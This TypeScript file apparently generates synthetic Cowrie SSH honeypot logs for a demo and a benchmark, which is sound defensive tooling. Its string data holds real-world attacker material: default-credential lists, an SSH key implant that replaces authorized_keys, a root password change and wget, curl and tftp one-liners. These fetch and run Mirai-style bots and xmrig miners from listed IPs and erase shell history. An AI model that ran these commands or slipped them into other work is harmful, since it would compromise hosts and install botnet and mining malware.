import { createHash } from 'node:crypto'
import { NETWORKS } from './seed-data/networks.js'

/**
 * Realistic Cowrie traffic, deterministic for a given seed: the demo history and the benchmark
 * both use it. Attacker networks, credentials and commands are the ones real SSH honeypots see
 * every day (Mirai-style droppers, the "mdrfckr" key implant, miner hunts, CPU fingerprinting).
 */

export type CowrieJson = Record<string, unknown>

/** mulberry32: tiny, fast and good enough for demo data. */
export function prng(seed: number): () => number {
  let state = seed >>> 0
  return () => {
    state = (state + 0x6d2b79f5) >>> 0
    let t = state
    t = Math.imul(t ^ (t >>> 15), t | 1)
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61)
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
  }
}

const USERNAMES = [
  'root',
  'root',
  'root',
  'admin',
  'ubuntu',
  'user',
  'test',
  'pi',
  'oracle',
  'postgres',
  'git',
  'ftpuser',
  'debian',
  'support',
  'hadoop',
  'deploy',
  'guest',
  'nagios',
  'minecraft',
  'sol'
]
const PASSWORDS = [
  '123456',
  'admin',
  'password',
  'root',
  '1234',
  '12345678',
  'raspberry',
  '123',
  'qwerty',
  'admin123',
  '1qaz2wsx',
  'P@ssw0rd',
  'toor',
  '111111',
  'abc123',
  'changeme',
  'ubuntu',
  'test123',
  'passw0rd',
  '0'
]
const CLIENTS = [
  'SSH-2.0-Go',
  'SSH-2.0-libssh_0.9.6',
  'SSH-2.0-libssh2_1.10.0',
  'SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6',
  'SSH-2.0-paramiko_3.4.0',
  'SSH-2.0-PUTTY',
  'SSH-2.0-OpenSSH_7.4'
]

const MDRFCKR =
  'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~'

/** Bot scripts: each a sequence typed in one session. */
const SCRIPTS: Array<{ commands: string[]; weight: number }> = [
  {
    weight: 30,
    commands: [
      'cd ~; chattr -ia .ssh; lockr -ia .ssh',
      'lockr -ia .ssh',
      MDRFCKR,
      'cat /proc/cpuinfo | grep name | wc -l',
      'echo "root:Ym9ZPqV3hJ1c"|chpasswd|bash',
      'rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; pkill -9 auth.sh; echo > /etc/hosts.deny; pkill -9 sleep;',
      "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
      "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
      'ls -lh $(which ls)',
      'which ls',
      'crontab -l',
      'w',
      'uname -m',
      'cat /proc/cpuinfo | grep model | grep name | wc -l',
      'top',
      'uname',
      'uname -a',
      'whoami',
      'lscpu | grep Model',
      "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'"
    ]
  },
  {
    weight: 20,
    commands: [
      'enable',
      'system',
      'shell',
      'sh',
      'cat /proc/mounts; /bin/busybox ECCHI',
      'cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://45.95.147.236/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 45.95.147.236 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; rm -rf *',
      '/bin/busybox ECCHI'
    ]
  },
  {
    weight: 15,
    commands: [
      'uname -s -v -n -r -m',
      "ps | grep '[Mm]iner'",
      "ps -ef | grep '[Mm]iner'",
      'ls -la /dev/ttyGSM* /dev/ttyUSB-mod* /var/spool/sms/* /var/log/smsd.log /etc/smsd.conf* /usr/bin/qmuxd /var/qmux_connect_socket /etc/config/simman /dev/modem* /var/config/sms/*',
      'echo Hi | cat -n',
      'locate D877F783D5D3EF8Cs',
      '/ip cloud print',
      'cat /proc/cpuinfo'
    ]
  },
  {
    weight: 12,
    commands: [
      'uname -a',
      'nproc',
      'cat /etc/os-release',
      'curl -s http://ipinfo.io/ip',
      'cd /tmp; curl -O http://193.32.162.27/x86_64; chmod +x x86_64; ./x86_64 ssh.x86; rm -f x86_64',
      'history -c; rm -rf ~/.bash_history'
    ]
  },
  {
    weight: 10,
    commands: [
      'export HISTFILE=/dev/null',
      'nvidia-smi -q | grep "Product Name"',
      'cat /proc/cpuinfo | grep name | wc -l',
      'wget -qO- http://185.224.128.17/xmrig.sh | bash',
      'crontab -l',
      'ps aux | grep xmrig'
    ]
  },
  {
    weight: 8,
    commands: ['echo -e "\\x6F\\x6B"', 'uname -a', 'id', 'cat /etc/passwd', 'ifconfig', 'netstat -tulpn']
  },
  {
    weight: 5,
    commands: [
      'tftp; wget; /bin/busybox MIORI',
      'cd /tmp; wget http://45.95.147.236/mips; chmod 777 mips; ./mips telnet.mips',
      'dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s'
    ]
  }
]

interface Payload {
  url: string
  destfile: string
  weight: number
}

/** Downloaded payloads; each gets a fixed SHA-256 derived from the seed. */
const PAYLOADS: Payload[] = [
  { url: 'http://45.95.147.236/bins.sh', destfile: '/tmp/bins.sh', weight: 20 },
  { url: 'http://45.95.147.236/x86', destfile: '/tmp/x86', weight: 14 },
  { url: 'http://45.95.147.236/mips', destfile: '/tmp/mips', weight: 10 },
  { url: 'http://45.95.147.236/arm7', destfile: '/tmp/arm7', weight: 9 },
  { url: 'http://193.32.162.27/x86_64', destfile: '/tmp/x86_64', weight: 8 },
  { url: 'http://185.224.128.17/xmrig.sh', destfile: '/tmp/xmrig.sh', weight: 7 },
  { url: 'http://185.224.128.17/xmrig', destfile: '/tmp/.x/xmrig', weight: 6 },
  { url: 'http://103.178.229.130/sshd', destfile: '/var/tmp/sshd', weight: 5 },
  { url: 'http://87.121.86.44/dota3.tar.gz', destfile: '/tmp/dota3.tar.gz', weight: 5 },
  { url: 'http://176.65.148.10/redtail.x86_64', destfile: '/tmp/redtail', weight: 4 },
  { url: 'http://176.65.148.10/setup.sh', destfile: '/tmp/setup.sh', weight: 4 },
  { url: 'http://45.128.232.55/kinsing', destfile: '/tmp/kinsing', weight: 3 },
  { url: 'http://45.128.232.55/kdevtmpfsi', destfile: '/tmp/kdevtmpfsi', weight: 2 },
  { url: 'http://185.216.71.22/perl.tgz', destfile: '/tmp/perl.tgz', weight: 2 },
  { url: 'http://2.58.85.12/gafgyt.arm', destfile: '/tmp/gafgyt.arm', weight: 1 }
]

export const SENSORS = ['hp-ams-01', 'hp-fra-02', 'hp-sgp-01', 'hp-nyc-03']

function weighted<T extends { weight: number }>(items: T[]): (random: number) => T {
  const total = items.reduce((sum, item) => sum + item.weight, 0)
  return (random) => {
    let left = random * total
    for (const item of items) {
      left -= item.weight
      if (left < 0) return item
    }
    return items[items.length - 1]!
  }
}

const hex = (rand: () => number, length: number): string => {
  let out = ''
  while (out.length < length)
    out += Math.floor(rand() * 0x100000000)
      .toString(16)
      .padStart(8, '0')
  return out.slice(0, length)
}

export interface GeneratorOptions {
  seed: number
  /** Sessions to produce, spread over [from, to] (ms) with a day/night rhythm and bursts. */
  sessions: number
  from: number
  to: number
  /** Share of sessions whose sensor adds no geoip enrichment (ASN/country stay unknown). */
  unenrichedShare?: number
}

/**
 * Yields one session at a time as its Cowrie events (connect, client version, logins, commands,
 * downloads, closed), oldest session first. Memory stays flat however many sessions are asked for.
 */
export function* cowrieSessions(options: GeneratorOptions): Generator<CowrieJson[]> {
  const rand = prng(options.seed)
  const pickNetwork = weighted(NETWORKS)
  const pickScript = weighted(SCRIPTS)
  const pickPayload = weighted(PAYLOADS)
  const hashes = new Map(
    PAYLOADS.map((payload) => [payload.url, createHash('sha256').update(`${options.seed}:${payload.url}`).digest('hex')])
  )
  // A few thousand recurring attackers, as on a real honeynet: the same hosts come back all day.
  const attackers = Array.from({ length: 3000 }, () => {
    const network = pickNetwork(rand())
    const prefix = network.prefixes[Math.floor(rand() * network.prefixes.length)]!
    const octets = prefix.split('.').filter(Boolean).length
    const tail = Array.from({ length: 4 - octets }, () => 1 + Math.floor(rand() * 254)).join('.')
    return { network, ip: `${prefix.replace(/\.$/, '')}.${tail}`, sensor: SENSORS[Math.floor(rand() * SENSORS.length)]! }
  })
  const span = options.to - options.from
  const step = span / Math.max(1, options.sessions)
  const unenriched = options.unenrichedShare ?? 0.03

  for (let i = 0; i < options.sessions; i++) {
    // Evenly spaced with jitter: sorted output, and a gentle day/night wave in the density.
    const base = options.from + step * i
    const wave = Math.sin((base / 86_400_000) * 2 * Math.PI) * step * 0.4
    let t = Math.min(options.to, Math.max(options.from, base + wave + (rand() - 0.5) * step))
    const attacker = attackers[Math.floor(rand() ** 1.6 * attackers.length)]!
    const session = hex(rand, 12)
    const port = 30000 + Math.floor(rand() * 35000)
    const enriched = rand() >= unenriched
    const geoip = enriched
      ? {
          geoip: {
            asn: attacker.network.asn,
            as_org: attacker.network.org,
            country_name: attacker.network.country,
            country_code2: attacker.network.code,
            ip: attacker.ip
          }
        }
      : {}
    const base0 = { session, src_ip: attacker.ip, sensor: attacker.sensor, ...geoip }
    const at = () =>
      new Date(t).toISOString().replace(
        'Z',
        `${Math.floor(rand() * 1000)
          .toString()
          .padStart(3, '0')}Z`
      )
    const start = t
    const events: CowrieJson[] = []
    const push = (eventid: string, fields: CowrieJson, message: string, advanceMs: number) => {
      t += advanceMs
      events.push({ eventid, ...fields, message, timestamp: at(), ...base0 })
    }
    push(
      'cowrie.session.connect',
      { src_port: port, dst_ip: '10.0.0.4', dst_port: 22, protocol: 'ssh' },
      `New connection: ${attacker.ip}:${port} (10.0.0.4:22) [session: ${session}]`,
      0
    )
    const kind = rand()
    if (kind < 0.5) {
      push('cowrie.session.closed', { duration: 0.4 }, 'Connection lost after 0.4 seconds', 400)
    } else {
      const failures = 1 + Math.floor(rand() * 2)
      for (let f = 0; f < failures; f++) {
        const username = USERNAMES[Math.floor(rand() * USERNAMES.length)]!
        const password = PASSWORDS[Math.floor(rand() * PASSWORDS.length)]!
        push('cowrie.login.failed', { username, password }, `login attempt [${username}/${password}] failed`, 800)
      }
      if (kind >= 0.83) {
        const version = CLIENTS[Math.floor(rand() * CLIENTS.length)]!
        push('cowrie.client.version', { version }, `Remote SSH version: ${version}`, 120)
        push('cowrie.login.success', { username: 'root', password: 'admin' }, 'login attempt [root/admin] succeeded', 700)
        const script = pickScript(rand())
        for (const command of script.commands) {
          push('cowrie.command.input', { input: command }, `CMD: ${command}`, 300 + Math.floor(rand() * 900))
        }
        if (rand() < 0.3) {
          const payload = pickPayload(rand())
          const shasum = hashes.get(payload.url)!
          push(
            'cowrie.session.file_download',
            { url: payload.url, outfile: `var/lib/cowrie/downloads/${shasum}`, shasum, destfile: payload.destfile },
            `Downloaded URL (${payload.url}) with SHA-256 ${shasum} to var/lib/cowrie/downloads/${shasum}`,
            1500
          )
        }
      }
      const duration = Math.round((t + 1000 - start) / 100) / 10
      push('cowrie.session.closed', { duration }, `Connection lost after ${duration} seconds`, 1000)
    }
    yield events
  }
}
